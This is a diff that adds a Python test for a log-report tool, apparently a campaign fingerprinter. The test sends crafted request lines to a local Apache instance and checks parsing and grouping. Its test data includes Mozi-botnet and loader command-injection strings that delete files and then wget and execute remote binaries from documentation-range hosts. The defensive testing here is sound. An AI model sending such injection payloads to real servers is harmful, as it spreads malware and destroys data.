@@ -1,0 +1,72 @@
+"""`tcpfp report --format FMT` reads what Debian's apache2 really writes.
+
+Apache (tests/apache.py) logs request lines holding quotes, backslashes,
+control and high bytes (written as ``\\xhh``) and spaces; the report must
+count every request, read each request line back to the bytes that were sent
+(as latin-1 text, exactly as ``LogFormat.parse`` does), and group the
+campaigns among them into one pattern each.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import time
+
+import pandas as pd
+from typer.testing import CliRunner
+
+from apache import Apache
+from tcpfp_cli.cli import app
+from tcpfp_cli.logformat import compile_format
+from tcpfp_cli.logreader import read_dataframe
+
+FORMAT = '%h %l %u %t "%r" %>s %b "%{User-Agent}i" %D'
+
+HOSTILE = [
+    b'GET /index.html?q="quoted"\\back\\slash HTTP/1.0',
+    b"GET /index.html?t=\x01\x7f\x80\xe9\xff HTTP/1.0",
+    b"GET /index.html?lit=\\x41%20%n HTTP/1.0",
+    b'GET /"/\\"/ HTTP/1.0',
+]
+MOZI = [b"GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://%s:%d/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.0"
+        % (ip, port) for ip, port in ((b"198.51.100.7", 4242), (b"203.0.113.9", 61000), (b"192.0.2.77", 1025))]
+LOADER = [b"GET /dl?cd+/var;wget+http://%s:%d/x.sh HTTP/1.0" % (ip, port)
+          for ip, port in ((b"198.51.100.1", 80), (b"203.0.113.200", 8080))]
+
+
+def test_report_reads_apache_escaped_request_lines(tmp_path):
+    sent = HOSTILE + MOZI + LOADER
+    with Apache(FORMAT, protocol_options="Unsafe") as apache:
+        for line in sent:
+            with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
+                s.sendall(line + b"\r\nUser-Agent: x \"y\" \\z\r\n\r\n")
+                s.shutdown(socket.SHUT_WR)
+                deadline = time.monotonic() + 3
+                while time.monotonic() < deadline and s.recv(65536):
+                    pass
+        lines = apache.lines(len(sent))
+    assert len(lines) == len(sent)
+    log = tmp_path / "apache.log"
+    log.write_text("\n".join(lines) + "\n")
+    assert any("\\x01" in line for line in lines) and any('\\"' in line for line in lines)
+
+    df, stats = read_dataframe([str(log)], FORMAT)
+    assert stats.parsed == len(sent) and stats.malformed == 0
+    parse = compile_format(FORMAT).parse
+    assert df["request"].tolist() == [parse(line)["request"] for line in lines]
+    assert sorted(df["request"]) == sorted(r.decode("latin-1") for r in sent)
+    agents = [None if v is None or v is pd.NA else v for v in df["header:user-agent"].astype(object)]
+    assert agents == [parse(line)["header:user-agent"] for line in lines]
+    assert agents.count('x "y" \\z') >= len(MOZI + LOADER)  # a 400 is logged before the headers are read
+
+    result = CliRunner().invoke(app, ["report", "--json", "--format", FORMAT, str(log)])
+    assert result.exit_code == 0, result.stderr
+    report = json.loads(result.stdout)
+    assert report["summary"]["parsed"] == len(sent) and report["summary"]["malformed"] == 0
+    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
+    assert campaigns["Mozi"] == 3
+    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
+    assert campaigns['GET /"/\\"/ HTTP/1.0'] == 1
+    assert campaigns["GET /index.html?t=<v> HTTP/1.0"] == 1
+    assert sum(campaigns.values()) == len(sent)
